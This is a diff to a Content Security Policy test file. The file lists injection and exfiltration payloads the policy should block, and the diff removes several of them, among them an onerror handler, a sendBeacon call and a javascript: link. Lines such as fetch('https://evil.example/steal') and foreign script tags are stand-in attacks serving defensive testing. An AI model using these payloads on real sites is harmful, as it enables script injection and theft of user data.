@@ -84,9 +84,9 @@ type Attack = {
   act?: () => unknown;
 };
 
+/** One for each source or keyword that the policy leaves out. */
 const attacks: Attack[] = [
   { what: 'an inline script', directive: 'script-src', markup: '<script>window.harmed = true</script>' },
-  { what: 'an event handler in markup', directive: 'script-src', markup: '<img src="/nothing.png" alt="" onerror="window.harmed = true">' },
   { what: 'a foreign script', directive: 'script-src', markup: '<script src="https://evil.example/x.js"></script>' },
   { what: 'a script in a data URL', directive: 'script-src', markup: '<script src="data:text/javascript,window.harmed=true"></script>' },
   { what: 'a foreign base address', directive: 'base-uri', markup: '<base href="https://evil.example/">' },
@@ -95,12 +95,6 @@ const attacks: Attack[] = [
   { what: 'a foreign image', directive: 'img-src', markup: '<img src="https://evil.example/x.png?stolen" alt="">' },
   { what: 'a foreign style sheet', directive: 'style-src', markup: '<link rel="stylesheet" href="https://evil.example/x.css">' },
   { what: 'a call to a foreign host', directive: 'connect-src', act: () => fetch('https://evil.example/steal').catch(() => undefined) },
-  { what: 'a beacon to a foreign host', directive: 'connect-src', act: () => navigator.sendBeacon('https://evil.example/steal', 'token') },
-  {
-    what: 'a script added by a script',
-    directive: 'script-src',
-    act: () => document.body.append(Object.assign(document.createElement('script'), { text: 'window.harmed = true' })),
-  },
   {
     what: 'a string that is run as code',
     directive: 'script-src',
@@ -113,11 +107,6 @@ const attacks: Attack[] = [
       document.body.append(
         Object.assign(document.createElement('script'), { src: URL.createObjectURL(new Blob(['window.harmed = true'])) }),
       ),
-  },
-  {
-    what: 'a javascript: link',
-    directive: 'script-src',
-    act: () => Object.assign(document.createElement('a'), { href: 'javascript:void(window.harmed = true)' }).click(),
   },
   {
     what: 'a frame from a blob URL',
